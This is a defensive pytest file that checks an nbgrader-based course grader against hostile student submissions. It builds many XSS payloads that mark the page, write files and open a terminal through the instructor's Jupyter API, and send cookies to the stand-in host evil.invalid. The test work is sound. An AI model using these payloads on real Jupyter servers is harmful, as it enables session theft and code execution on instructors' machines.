"""No script from a submission runs in any view of it, and no request leaves the page.

A hostile class of M1 submissions, each otherwise the correct solution, carries payloads in
every place a student controls: what the grading kernel displays (every MIME type, from a
solution cell, from the instructor's unlocked code cell and from added cells: raw bundles,
IPython's display classes, ``_repr_*_``, ``update_display``, printed HTML, an exception whose
name and message are HTML, widget state sent over a comm), outputs already stored in the
submitted notebook, markdown cells the student added or edited, raw HTML cells, attachments,
notebook and cell metadata, cell ids, the file names of an LMS export, and a student id taken
from the name of an exchange folder. Each payload tries to mark the page (``window.__pwned``,
``document.title``), to call the instructor's Jupyter API with the page's XSRF cookie (write
``pwned-<tag>.txt`` through the contents API, open a terminal and run ``id`` in it), to open
a dialog, and to load something off the machine (``evil.invalid``: images, CSS, ``<link>``,
``<meta refresh>``, ``<base href>``, frames...).

The class is graded with the course's command (which writes the feedback), then the
instructor, in Chromium driven by Playwright, opens the formgrader (its lists, and every
submission) on a JupyterLab serving the course copy, and every feedback file (as a file, and
through the server). On every page: no dialog, no popup, WebSocket or navigation away, no
request that the same page of a clean submission does not make (nbgrader's templates ask a
CDN for MathJax, which is out of reach here: the clean page's requests are the allowance), no
marker in any frame, the title unchanged; and no ``pwned*`` file in the server's root and no
terminal after it. Beyond the sanitizer, a student's own files are not left next to the
feedback nor where the formgrader serves them, and a student id from the exchange that is
not a safe name (the formgrader pastes ids into its pages unescaped) is refused.
"""

from __future__ import annotations

import base64
import contextlib
import json
import re
import struct
import subprocess
import unicodedata
import urllib.parse
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from browser import JupyterLab, chromium, missing_tools
from conftest import COURSE, copy_course, grade_command
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.api import Gradebook
from test_untrusted import Active

from course_grader.classgrade.intake import DEFAULT_ID_PATTERN, EXCHANGE_FILES, clean_id
from course_grader.measuring.submissions import fill, solution_cells

M = "m1_value"
RELEASE = COURSE.release_notebook(M)
ANSWERS = solution_cells(COURSE.source_notebook(M))
FULL = sum(
    c.metadata.nbgrader["points"]
    for c in nbformat.read(RELEASE, as_version=4).cells
    if c.metadata.get("nbgrader", {}).get("grade")
)
LAST_SOLUTION = "value_sigmoid"
EVIL = "http://evil.invalid"


def _png() -> str:
    """A real 1x1 PNG, base64."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    raw += chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    return base64.b64encode(raw).decode()


PNG = _png()


# --------------------------------------------------------------------------- payloads


def act(tag: str) -> str:
    """JavaScript that does everything a hostile script would, tagged with where it came
    from: mark the page, write a file and open a terminal through the instructor's Jupyter
    API (with the XSRF cookie), run ``id`` in it, send the cookies off the machine, and open
    a dialog. No double quote, no ``&`` or ``<``: it fits in a quoted HTML or SVG attribute."""
    return (
        f"window.__pwned='{tag}';try{{top.__pwned='{tag}'}}catch(e){{}};document.title='pwned';"
        "var k=(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||'';"
        "var h={'X-XSRFToken':decodeURIComponent(k),'Content-Type':'application/json'};"
        f"fetch('/api/contents/pwned-{tag}.txt',{{method:'PUT',headers:h,"
        "body:JSON.stringify({type:'file',format:'text',content:document.cookie})});"
        "fetch('/api/terminals',{method:'POST',headers:h}).then(function(r){return r.json()}).then(function(t){"
        "var w=new WebSocket(location.origin.replace('http','ws')+'/terminals/websocket/'+t.name);"
        f"w.onopen=function(){{w.send(JSON.stringify(['stdin','id > pwned-{tag}-id.txt\\r']))}}}});"
        f"new Image().src='{EVIL}/{tag}?'+encodeURIComponent(document.cookie);"
        f"alert('{tag}')"
    )


def short(tag: str) -> str:
    """A marker and a dialog in one word (no space, double quote or slash): for javascript:
    links, tags and file names."""
    return f"window.__pwned='{tag}';document.title='pwned';alert('{tag}')"


def hostile_svg(tag: str) -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20" '
        f'onload="{act(tag + "-onload")}"><script>{act(tag + "-script")}</script>'
        f'<image href="{EVIL}/{tag}-image.png" width="5" height="5"/>'
        f'<use xlink:href="{EVIL}/{tag}-use.svg#x"/>'
        f'<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" '
        f'onerror="{act(tag + "-foreign")}"/></foreignObject>'
        f'<a href="javascript:{short(tag + "-link")}"><text x="1" y="9">click</text></a>'
        f'<set attributeName="onmouseover" to="{short(tag + "-set")}"/>'
        f'<rect width="3" height="3" fill="url({EVIL}/{tag}-fill#x)" style="fill:url({EVIL}/{tag}-style)"/>'
        f"<style>@import url({EVIL}/{tag}-import.css);</style></svg>"
    )


def css_escaped_svg(tag: str) -> str:
    """An SVG whose paint and font are URLs once a browser decodes their CSS escapes (``\\75``
    is "u", ``\\72`` "r") and HTML entities, with MathJax in its text: a filter that looks for
    ``url(`` before decoding lets them through."""
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
        f'<rect width="5" height="5" fill="\\75 rl({EVIL}/{tag}-fill)" stroke="u\\72l({EVIL}/{tag}-stroke)"/>'
        f'<circle r="3" fill="\\000075rl({EVIL}/{tag}-hex6)" stroke="&amp;#x5c;75 rl({EVIL}/{tag}-entity)"/>'
        f'<text x="1" y="9" fill="u/**/rl({EVIL}/{tag}-comment)" font-family="\\u\\r\\l({EVIL}/{tag}-font)">'
        f"$\\href{{{EVIL}/{tag}-mathjax}}{{x}}$</text></svg>"
    )


def hostile_html(tag: str) -> dict[str, str]:
    """Tag -> an HTML fragment, one trick each."""
    return {
        f"{tag}-script": f"<script>{act(tag + '-script')}</script>",
        f"{tag}-onerror": f'<img src=x onerror="{act(tag + "-onerror")}"><b onmouseover="{act(tag + "-b")}">b</b>',
        f"{tag}-srcdoc": f'<iframe srcdoc="<script>{act(tag + "-srcdoc")}</script>"></iframe>',
        f"{tag}-iframe": f'<iframe src="{EVIL}/{tag}-frame"></iframe>'
        f'<iframe src="javascript:{short(tag + "-jsframe")}"></iframe>'
        f'<object data="{EVIL}/{tag}-object"></object><embed src="{EVIL}/{tag}-embed">',
        f"{tag}-css": f"<style>@import url({EVIL}/{tag}-import.css);body{{background:url(//evil.invalid/{tag}-bg.png)}}"
        f'</style><div style="background-image:url({EVIL}/{tag}-inline.png)">styled</div>',
        f"{tag}-link": f'<link rel="stylesheet" href="{EVIL}/{tag}-sheet.css"><link rel="prefetch" '
        f'href="{EVIL}/{tag}-prefetch"><link rel="icon" href="{EVIL}/{tag}-icon.png">',
        f"{tag}-meta": f'<meta http-equiv="refresh" content="0;url={EVIL}/{tag}-refresh">',
        f"{tag}-base": f'<base href="{EVIL}/{tag}-base/"><img src="relative.png">',
        f"{tag}-media": f'<img src="//evil.invalid/{tag}-x.png"><img srcset="{EVIL}/{tag}-srcset.png 2x">'
        f'<video poster="{EVIL}/{tag}-poster.png"><source src="x" onerror="{act(tag + "-source")}">'
        f'</video><audio src="x" onerror="{act(tag + "-audio")}"></audio>'
        f'<input type="image" src="{EVIL}/{tag}-input.png"><table background="{EVIL}/{tag}-table.png">'
        "<tr><td>t</td></tr></table>",
        f"{tag}-svg": f'<svg><script>{act(tag + "-inline-svg")}</script><image href="{EVIL}/{tag}-svgimg.png"/>'
        f'<animate onbegin="{act(tag + "-onbegin")}" attributeName="x" dur="1s"/></svg>',
        f"{tag}-mxss": "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=x onerror={short(tag + "-mxss")}&gt;"></mglyph></table></mtext>'
        f'</math><noscript><p title="</noscript><img src=x onerror={short(tag + "-noscript")}>"></p>'
        f'</noscript><svg></p><style><a id="</style><img src=x onerror={short(tag + "-svgp")}>"></a>'
        "</style></svg>",
        # text that bleach keeps, which MathJax (nbgrader's templates load it) would typeset
        f"{tag}-mathjax": rf"<p>$\href{{{EVIL}/{tag}-mathjax-link}}{{link}}$ $\require{{AMScd}}$ "
        rf"$\style{{background:url({EVIL}/{tag}-mathjax.png)}}{{x}}$ "
        rf"\(\href{{javascript:{short(tag + '-mathjax')}}}{{x}}\)</p>",
        f"{tag}-form": f'<form action="{EVIL}/{tag}-form"><input name="q" autofocus onfocus="{act(tag + "-focus")}">'
        f'<button formaction="javascript:{short(tag + "-formaction")}">go</button></form>'
        f'<details open ontoggle="{act(tag + "-toggle")}"><summary>s</summary></details>',
    }


def hostile_bundles(tag: str) -> list[tuple[str, dict, dict]]:
    """(tag, MIME bundle, metadata) of display outputs in every MIME type a student can
    send, each with its trick; the same list makes the kernel's outputs and stored ones."""
    bundles = [(name, {"text/html": html}, {}) for name, html in hostile_html(tag).items()]
    bundles += [
        (
            f"{tag}-isolated",
            {"text/html": f"<script>{act(tag + '-isolated')}</script>"},
            {"text/html": {"isolated": True}},
        ),
        (f"{tag}-svg-mime", {"image/svg+xml": hostile_svg(f"{tag}-svgmime")}, {}),
        (f"{tag}-svg-css-escape", {"image/svg+xml": css_escaped_svg(f"{tag}-svgcss")}, {}),
        (
            f"{tag}-markdown",
            {
                "text/markdown": f'<img src=x onerror="{act(tag + "-md")}"> ![m]({EVIL}/{tag}-md.png) '
                f"[m](javascript:{short(tag + '-mdlink')}) "
                f"<script>{act(tag + '-mdscript')}</script>"
            },
            {},
        ),
        (
            f"{tag}-latex",
            {
                "text/latex": rf"$\href{{javascript:{short(tag + '-href')}}}{{click}}$ "
                rf"$\style{{background:url({EVIL}/{tag}-tex)}}{{x}}$ $\require{{{EVIL}/{tag}-ext.js}}$ "
                rf"$\unicode{{<img src=x onerror={short(tag + '-unicode')}>}}$ "
                f'<img src=x onerror="{act(tag + "-latex")}">'
            },
            {},
        ),
        (f"{tag}-js", {"application/javascript": act(tag + "-js")}, {}),
        (f"{tag}-png-data", {"image/png": f'" onerror="{act(tag + "-pngdata")}'}, {}),
        (
            f"{tag}-png-meta",
            {"image/png": PNG},
            # the template pastes width and height unquoted (width={{ width | escape_html }}): no quote is needed
            {
                "image/png": {
                    "width": f"1 onerror={short(tag + '-width')}",
                    "height": f'1" onerror="{act(tag + "-height")}',
                    "alt": f'" onerror="{act(tag + "-alt")}',
                    "unconfined": True,
                },
                "filenames": {"image/png": f"{EVIL}/{tag}-filename.png"},
            },
        ),
        (
            f"{tag}-jpeg",
            {"image/jpeg": f"x' onerror='{act(tag + '-jpeg')}"},
            {"image/jpeg": {"height": f"1 onerror={short(tag + '-jpeg-height')}"}},
        ),
        (
            f"{tag}-widget",
            {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": f"</script><script>{act(tag + '-widget')}</script>",
                    "version_major": 2,
                    "version_minor": 0,
                },
                "text/plain": f"<script>{act(tag + '-widget-plain')}</script>",
            },
            {},
        ),
        (f"{tag}-plain", {"text/plain": f"<script>{act(tag + '-plain')}</script>"}, {}),
        (
            f"{tag}-other",
            {
                "text/x-evil": f"<script>{act(tag + '-x')}</script>",
                "application/json": {"a": f"</script><script>{act(tag + '-json')}</script>"},
                "application/pdf": "JVBERi0xLjQK",
            },
            {},
        ),
    ]
    return bundles


def kernel_code(tag: str) -> str:
    """What a student appends to a solution cell so that the grading kernel displays every
    payload: raw bundles, IPython's display classes, print, and widget state sent over a comm
    (nbclient writes it into the notebook's metadata)."""
    lines = ["", "from IPython.display import HTML, SVG, IFrame, Image, Javascript, Latex, Markdown, display", ""]
    for _, data, meta in hostile_bundles(tag):
        lines.append(f"display({data!r}, metadata={meta!r}, raw=True)")
    latex = "$\\href{javascript:" + short(tag + "-Latex") + "}{x}$"
    printed = f'<script>{act(tag + "-print")}</script><img src=x onerror="{act(tag + "-print2")}">'
    lines += [
        f"display(HTML({act(tag + '-HTML')!r}.join(['<script>', '</script>'])))",
        f"display(SVG({hostile_svg(tag + '-SVG')!r}))",
        f"display(Markdown({'<img src=x onerror=' + chr(34) + act(tag + '-Markdown') + chr(34) + '>'!r}))",
        f"display(Latex({latex!r}))",
        f"display(Javascript({act(tag + '-Javascript')!r}, lib=[{EVIL + '/' + tag + '-lib.js'!r}]))",
        f"display(Image(url={EVIL + '/' + tag + '-Image.png'!r}))",
        f"display(IFrame({EVIL + '/' + tag + '-IFrame'!r}, 10, 10))",
        f"print({printed!r})",
        "display({'text/plain': 'replaced later'}, raw=True, display_id='to-update')",
        "import sys",
        f"sys.stderr.write({('<script>' + act(tag + '-stderr') + '</script>')!r})",
        "try:",
        "    from comm import create_comm",
        "    _w = create_comm(target_name='jupyter.widget', data={'state': {'_model_name': 'HTMLModel', "
        "'_model_module': '@jupyter-widgets/controls', '_model_module_version': '2.0.0', "
        f"'value': {('<script>' + act(tag + '-widget-state') + '</script>')!r}}}, 'buffer_paths': []}})",
        "except Exception:",
        "    pass",
    ]
    return "\n".join(lines) + "\n"


REPR_CELL = """\
from IPython.display import update_display
update_display({{'text/html': {update!r}}}, raw=True, display_id='to-update')
class Shown:
    def _repr_html_(self):
        return {html!r}
    def _repr_svg_(self):
        return {svg!r}
    def _repr_javascript_(self):
        return {js!r}
    def _repr_markdown_(self):
        return {md!r}
    def _repr_latex_(self):
        return {latex!r}
Shown()
"""
RAISE_CELL = """\
class Loud(Exception):
    pass
Loud.__name__ = Loud.__qualname__ = {name!r}
raise Loud({message!r})
"""


def repr_cell(tag: str) -> str:
    return REPR_CELL.format(
        update=f"<script>{act(tag + '-update-display')}</script>",
        html=f'<script>{act(tag + "-repr-html")}</script><img src=x onerror="{act(tag + "-repr-img")}">',
        svg=hostile_svg(tag + "-repr-svg"),
        js=act(tag + "-repr-js"),
        md=f"![r]({EVIL}/{tag}-repr.png) <script>{act(tag + '-repr-md')}</script>",
        latex=rf"$\href{{javascript:{short(tag + '-repr-latex')}}}{{x}}$",
    )


def raise_cell(tag: str) -> str:
    return RAISE_CELL.format(
        name=f'<img src=x onerror="{act(tag + "-ename")}">',
        message=f"<script>{act(tag + '-evalue')}</script>\x1b]0;pwned\x07",
    )


def stored_outputs(tag: str) -> list:
    outs = [new_output("display_data", data=data, metadata=meta) for _, data, meta in hostile_bundles(tag)]
    outs += [
        new_output("execute_result", data={"text/html": f"<script>{act(tag + '-result')}</script>"}, execution_count=7),
        new_output("stream", name="stdout", text=f"<script>{act(tag + '-stream')}</script>"),
        new_output(
            "error",
            ename=f'<img src=x onerror="{act(tag + "-ename")}">',
            evalue=f"<script>{act(tag + '-evalue')}</script>",
            traceback=[f"<script>{act(tag + '-tb')}</script>"],
        ),
    ]
    return outs


def by_grade_id(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def student_markdown(tag: str) -> list[str]:
    return [
        f'Mine: <script>{act(tag + "-script")}</script> <img src=x onerror="{act(tag + "-onerror")}">\n\n'
        f'<iframe srcdoc="<script>{act(tag + "-srcdoc")}</script>"></iframe>\n\n'
        f"<style>body{{background:url({EVIL}/{tag}-css.png)}}</style>",
        f"![x]({EVIL}/{tag}-x.png) ![y](//evil.invalid/{tag}-y.png) [click](javascript:{short(tag + '-link')}) "
        f'<a href="javascript:{short(tag + "-a")}">a</a> <{EVIL}/{tag}-autolink>\n\n'
        f"[ref][r]\n\n[r]: javascript:{short(tag + '-ref')}",
        rf"Math: $\href{{javascript:{short(tag + '-href')}}}{{x}}$ $$\style{{background:url({EVIL}/{tag}-tex)}}{{y}}$$",
        f"````\n</code></pre><script>{act(tag + '-fence')}</script>\n````\n"
        f'~~~\n<script>{act(tag + "-tilde")}</script>\n```\n\n<img src=x onerror="{act(tag + "-after-fence")}">',
        "![att](attachment:a.svg) ![att](attachment:b.png) ![att](attachment:c.html)",
    ]


ATTACHMENTS = {
    "a.svg": {"image/svg+xml": hostile_svg("attachment-svg")},
    "b.png": {"image/png": f'" onerror="{act("attachment-png")}'},
    "c.html": {"text/html": f"<script>{act('attachment-html')}</script>"},
}


# --------------------------------------------------------------------------- the class

# A file name the student chose (an LMS export keeps it): markup and terminal escapes,
# all legal in a file name. The id is what the import makes of its first part.
MEAN_NAME = "<b>mallory\x1b[2J\"'&_<img src=x onerror={}>\x1b]0;pwned\x07\u202e (1).ipynb".format(short("file-name"))
MEAN_EXTRA = "<b>mallory\x1b[2J\"'&_<svg onload={}>\x1b]2;pwned\x07.html".format(short("extra-name"))
MEAN_ID = clean_id(re.compile(DEFAULT_ID_PATTERN).search(MEAN_NAME).group("student_id"))
EXTRA_NAME = MEAN_EXTRA.split("_", 1)[1]  # the extra file, as the import names it in the submission


def the_class() -> dict[str, nbformat.NotebookNode]:
    """student id -> notebook (the file names are theirs, M1's LMS pattern)."""
    clean = fill(RELEASE, ANSWERS)

    outputs = fill(RELEASE, {**ANSWERS, LAST_SOLUTION: ANSWERS[LAST_SOLUTION] + kernel_code("kernel")})
    graph = next(
        i
        for i, c in enumerate(outputs.cells)
        if c.cell_type == "code" and "display(" in c.source and "nbgrader" not in c.metadata
    )  # the instructor's code cell that draws a graph (not locked)
    outputs.cells[graph].source += f"\ndisplay(HTML({('<script>' + act('kernel-instructor-cell') + '</script>')!r}))\n"
    outputs.cells += [new_code_cell(repr_cell("kernel")), new_code_cell(raise_cell("kernel"))]
    outputs.cells += [  # IPython's cell magics that display what the cell holds
        new_code_cell(f"%%html\n<script>{act('kernel-magic-html')}</script>"),
        new_code_cell(f"%%javascript\n{act('kernel-magic-js')}"),
        new_code_cell(f"%%svg\n{hostile_svg('kernel-magic-svg')}"),
        new_code_cell(f'%%markdown\n<img src=x onerror="{act("kernel-magic-md")}">'),
        new_code_cell("%%latex\n" + f"$\\href{{javascript:{short('kernel-magic-latex')}}}{{x}}$"),
    ]

    stored = fill(RELEASE, ANSWERS)  # sent under a mean file name (MEAN_NAME)
    for cell in stored.cells:
        if cell.cell_type == "code":
            cell.outputs = stored_outputs("stored")
            cell.execution_count = 3
    stored.cells.append(new_code_cell("1 + 1", outputs=stored_outputs("stored-added"), execution_count=9))

    markdown = fill(RELEASE, ANSWERS)
    markdown.cells[0].source += f'\n\n<img src=x onerror="{act("edited-instructor-md")}">'
    added = [
        new_markdown_cell(src, metadata={"tags": [f'x" onmouseover="{short("md-tag")}', "<script>"]})
        for src in student_markdown("md")
    ]
    added[-1].attachments = ATTACHMENTS
    added.append(new_raw_cell(f"<script>{act('raw-format')}</script>", metadata={"format": "text/html"}))
    added.append(new_raw_cell(f'<img src=x onerror="{act("raw-mimetype")}">', metadata={"raw_mimetype": "text/html"}))
    markdown.cells[4:4] = added
    markdown.cells.append(
        new_code_cell(
            "x = 1",
            metadata={"tags": [f'"><script>{short("code-tag")}</script>'], "alt": f'" onerror="{act("cell-alt")}'},
        )
    )
    markdown.metadata.update(
        {
            "title": f"</title><script>{act('nb-title')}</script>",
            "authors": [{"name": f"<script>{act('nb-author')}</script>"}],
            "widgets": {
                "application/vnd.jupyter.widget-state+json": {
                    "version_major": 2,
                    "version_minor": 0,
                    "state": {
                        "m": {
                            "model_name": "HTMLModel",
                            "state": {"value": f"</script><script>{act('nb-widgets')}</script>"},
                        }
                    },
                }
            },
        }
    )

    ids = fill(RELEASE, ANSWERS)  # cell ids with markup: nbformat's schema refuses them, so nbgrader too
    ids.cells[0]["id"] = f'"><img src=x onerror={short("cell-id")}>'
    ids.cells[2]["id"] = f"</div><script>{act('cell-id-2')}</script>"
    return {"clean": clean, "outputs": outputs, "markdown": markdown, "cellids": ids, MEAN_ID: stored}


FILE_NAMES = {MEAN_ID: MEAN_NAME}  # every other student: "<id>_m1_value.ipynb"

# A student id the student chose: nbgrader's exchange takes it from the name of the folder a
# student writes into its inbound (`<id>+m1_value+<timestamp>+<random>`: 248 bytes, a legal name) and
# `nbgrader collect` only warns when the folder's owner is someone else (check_owner); the
# submission lands in submitted/<id>/m1_value/, where `./course grade` grades it. No slash
# can be in it ("\x2f" in a JavaScript string stands for one), nor a glob character (nbgrader
# finds a student's folder with the id as a glob pattern).
EXCHANGE_ID = (
    "\"><img src=x onerror=\"__pwned='exchange-id';document.title='pwned';fetch('\\x2fapi\\x2fterminals',"
    "{method:'POST',headers:{'X-XSRFToken':document.cookie.split('_xsrf=').pop().split(';').shift()}})\">"
)
EXPECTED_FULL = ("clean", "outputs", "markdown", MEAN_ID)  # and EXCHANGE_ID, while it is graded


def write_export(folder: Path) -> None:
    folder.mkdir(parents=True)
    for student, nb in the_class().items():
        name = FILE_NAMES.get(student, f"{student}_{M}.ipynb")
        (folder / name).write_text(json.dumps(nb, indent=1, ensure_ascii=False))  # as written, invalid ids included
    (folder / MEAN_EXTRA).write_text(f"<script>{act('extra-file')}</script>")


def write_collected(course: Path) -> None:
    """What `nbgrader collect` makes of the exchange-id student's inbound folder."""
    folder = course / "submitted" / EXCHANGE_ID / M
    folder.mkdir(parents=True)
    nbformat.write(fill(RELEASE, ANSWERS), folder / f"{M}.ipynb")
    (folder / "timestamp.txt").write_text("2025-01-01 00:00:00.000000 UTC")


# --------------------------------------------------------------------------- grading


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """The hostile class graded by the course's command in a course copy (feedback too)."""
    export = tmp_path_factory.mktemp("lms") / "export"
    write_export(export)
    course = copy_course(tmp_path_factory.mktemp("hostile-course"))
    write_collected(course)
    done = subprocess.run(
        grade_command(course, M, export, "--timeout", "30", "--jobs", "2"),
        cwd=course,
        capture_output=True,
        text=True,
        timeout=900,
    )
    assert done.returncode == 0, f"{done.stdout[-3000:]}\n{done.stderr[-3000:]}"
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        submissions = {
            s.student.id: (float(s.score), {nb.name: nb.id for nb in s.notebooks})
            for s in gb.find_assignment(M).submissions
        }
    return {"course": course, "export": export, "summary": done.stdout, "submissions": submissions}


def test_the_payloads_cost_no_points_and_reached_the_grader(graded):
    got = {student: score for student, (score, _) in graded["submissions"].items()}
    assert {s: got.get(s) for s in EXPECTED_FULL} == dict.fromkeys(EXPECTED_FULL, FULL)
    # nbformat's schema refuses a cell id that is not [a-zA-Z0-9-_]+: nbgrader grades nothing
    assert got.get("cellids") == 0.0
    assert "cellids" in graded["summary"] and "does not match '^[a-zA-Z0-9-_]+$'" in graded["summary"]
    # not vacuous: the grading kernel did display the payloads, and what it displayed was kept, made inert
    course = graded["course"]
    ran = nbformat.read(course / "autograded" / "outputs" / M / f"{M}.ipynb", as_version=4)
    texts = [json.dumps(o) for c in ran.cells for o in c.get("outputs", [])]
    for tag in (
        "kernel-script",
        "kernel-print",
        "kernel-stderr",
        "kernel-instructor-cell",
        "kernel-evalue",
        "kernel-ename",
        "kernel-repr-html",
        "kernel-plain",
        "kernel-update-display",
        "kernel-magic-html",
    ):
        assert any(f"pwned='{tag}'" in t for t in texts), f"the grading kernel did not show the {tag} payload"
    assert any("output not shown" in t for t in texts)
    # outputs stored in the submitted notebook: nbgrader's ClearOutput drops them before the kernel runs
    stored = (course / "autograded" / MEAN_ID / M / f"{M}.ipynb").read_text()
    assert "pwned='stored" not in stored and "evil.invalid" not in stored
    shown = nbformat.read(course / "autograded" / "markdown" / M / f"{M}.ipynb", as_version=4)
    assert sum("Written by the student" in c.source for c in shown.cells) == len(student_markdown("md")) + 3


def test_the_summary_prints_no_control_character_from_a_file_name(graded):
    summary = graded["summary"]
    raw = {ch for ch in summary if unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp") and ch != "\n"}
    assert not raw, f"raw control characters in the summary: {sorted(map(repr, raw))}"
    line = next(ln for ln in summary.splitlines() if ln.lstrip().startswith(MEAN_ID))
    assert "renamed notebook" in line and r"\x1b]0;pwned\x07" in line and r"\u202e" in line
    assert r"\x1b]2;pwned\x07" in summary  # the extra file's name, escaped too


TEMPLATE_STYLE = re.compile(r"span style=color: rgb\(\d+,\d+,\d+\)")  # nbconvert's ANSI colours in a traceback


def test_feedback_html_holds_nothing_active_that_a_clean_one_does_not(graded):
    feedback = graded["course"] / "feedback"
    clean = Active((feedback / "clean" / M / f"{M}.html").read_text()).found
    for student in EXPECTED_FULL:
        html = (feedback / student / M / f"{M}.html").read_text()
        extra = {a for a in Active(html).found - clean if not TEMPLATE_STYLE.fullmatch(a)}
        assert not extra, (student, sorted(extra)[:10])


# nbgrader copies every file of a submission that is not a notebook into autograded/, and from
# there into feedback/ (converters/base.py, init_assignment): the course's hooks remove them.


def stray_files(folder: Path, course: Path, page: str) -> list[str]:
    """Files in a graded or feedback folder that neither nbgrader nor the instructor put there."""
    return sorted(
        p.name
        for p in folder.rglob("*")
        if p.is_file()
        and p.name != page
        and p.name not in EXCHANGE_FILES
        and not (course / "solutions" / M / p.relative_to(folder)).exists()
    )


def test_no_file_of_the_student_is_left_next_to_the_feedback(graded):
    course = graded["course"]
    found = {s: stray_files(course / "feedback" / s / M, course, f"{M}.html") for s in EXPECTED_FULL}
    assert not any(found.values()), found


# --------------------------------------------------------------------------- the views, in a browser

LOCAL_HOSTS = ("127.0.0.1", "localhost")
HEX_ID = re.compile(r"[0-9a-f]{32}")
MARKS = """() => ({pwned: typeof window.__pwned === 'undefined' ? null : String(window.__pwned),
                 title: document.title})"""


@dataclass
class Visit:
    """What one page did while the instructor looked at it."""

    url: str
    status: int | None = None
    requests: list[tuple[str, str]] = field(default_factory=list)  # (method, url)
    dialogs: list[str] = field(default_factory=list)
    opened: list[str] = field(default_factory=list)  # popups, WebSockets, navigations away
    marks: list[str] = field(default_factory=list)  # window.__pwned in the page or a frame
    titles: list[str] = field(default_factory=list)


def visit(context, url: str, settle_ms: int = 500) -> Visit:
    """Open ``url`` in a new tab, wait for the network to go quiet and a little more, and
    record everything the page did."""
    seen = Visit(url)
    page = context.new_page()
    page.on("request", lambda r: seen.requests.append((r.method, r.url)))

    def dialog(d) -> None:
        seen.dialogs.append(d.message)
        with contextlib.suppress(Exception):  # the page may have gone on (a refresh) before it is dismissed
            d.dismiss()

    page.on("dialog", dialog)
    page.on("popup", lambda p: seen.opened.append(f"popup {p.url}"))
    page.on("websocket", lambda ws: seen.opened.append(f"websocket {ws.url}"))

    def navigated(frame) -> None:
        if frame == page.main_frame and not _same_page(frame.url, url):
            seen.opened.append(f"navigated to {frame.url}")

    page.on("framenavigated", navigated)
    try:
        response = page.goto(url, wait_until="load", timeout=30_000)
        seen.status = response.status if response else None
        page.wait_for_load_state("networkidle", timeout=15_000)
    except Exception as exc:  # noqa: BLE001 - a page that never settles is a finding, reported below
        seen.opened.append(f"did not load quietly: {str(exc).splitlines()[0]}")
    page.wait_for_timeout(settle_ms)
    for frame in page.frames:
        try:
            got = frame.evaluate(MARKS)
        except Exception:  # noqa: BLE001 - a frame that went away while read
            continue
        if got["pwned"] is not None:
            seen.marks.append(f"{frame.url[:80]}: window.__pwned = {got['pwned']}")
        seen.titles.append(got["title"])
    page.close()
    return seen


def _same_page(a: str, b: str) -> bool:
    def strip(url: str) -> str:
        return urllib.parse.urlsplit(url)._replace(query="", fragment="").geturl().rstrip("/")

    return strip(a) == strip(b)


def normalize(url: str, student: str) -> str:
    """A request's URL with what differs between students' pages taken out: the token,
    submission and grade ids, the student's id in a path."""
    parts = urllib.parse.urlsplit(url)
    query = "&".join(q for q in parts.query.split("&") if not q.startswith("token="))
    path = parts.path.replace(f"/{urllib.parse.quote(student)}/", "/<student>/")
    return HEX_ID.sub("<id>", parts._replace(path=path, query=query).geturl())


def off_machine(url: str) -> bool:
    parts = urllib.parse.urlsplit(url)
    return parts.scheme not in ("data", "blob", "file", "about") and parts.hostname not in LOCAL_HOSTS


def findings(seen: Visit, student: str, baseline: tuple[set[str], str] | None) -> list[str]:
    """What the page did that a page of a clean submission does not: ``baseline`` is that
    page's normalized requests and title (None for a page no clean submission has: then only
    GETs on this machine are allowed)."""
    out = [f"dialog: {d!r}" for d in seen.dialogs] + seen.opened + seen.marks
    for method, url in seen.requests:
        if url.startswith("data:"):
            continue  # an inline picture: nothing leaves the page
        if baseline is not None:
            allowed = normalize(url, student) in baseline[0]
        else:
            allowed = method == "GET" and not off_machine(url)
        if not allowed:
            out.append(f"request {method} {url[:160]}" + (" (off the machine)" if off_machine(url) else ""))
    if baseline is not None and any(t != baseline[1] for t in seen.titles[:1]):
        out.append(f"title changed: {seen.titles[0]!r} (clean: {baseline[1]!r})")
    out += [f"title changed: {t!r}" for t in seen.titles if "pwned" in t]
    return out


def harm_done(lab: JupyterLab, root: Path) -> list[str]:
    """What a script that ran could have left behind in the instructor's server."""
    harm = [f"file written: {p.relative_to(root)}" for p in root.rglob("pwned*")]
    harm += [f"terminal opened: {t.get('name')}" for t in lab.api("GET", "terminals") or []]
    return harm


@pytest.fixture(scope="module")
def lab(graded: dict, tmp_path_factory: pytest.TempPathFactory):
    """The instructor's JupyterLab, started in the course copy (as `./course python -m jupyter
    lab` is): the formgrader reads nbgrader_config.py from the server's working folder."""
    why = missing_tools()
    if why:
        pytest.fail(why, pytrace=False)
    server = JupyterLab(graded["course"], tmp_path_factory.mktemp("instructor-home"))
    try:
        server.start()
    except RuntimeError as err:
        pytest.fail(str(err), pytrace=False)
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture(scope="module")
def instructor(lab: JupyterLab):
    """A Chromium context logged in to the instructor's server, as after opening JupyterLab."""
    with chromium() as page:
        context = page.context
        context.request.get(lab.url("lab"))  # the login and XSRF cookies, for the whole server
        page.close()
        yield context


def check_pages(lab: JupyterLab, context, root: Path, pages: list[tuple[str, str, str | None]]) -> list[str]:
    """Visit (name, url, student) pages in order; the first page of each name with student
    "clean" is the baseline of the others of that name. Every finding, by page."""
    problems: list[str] = []
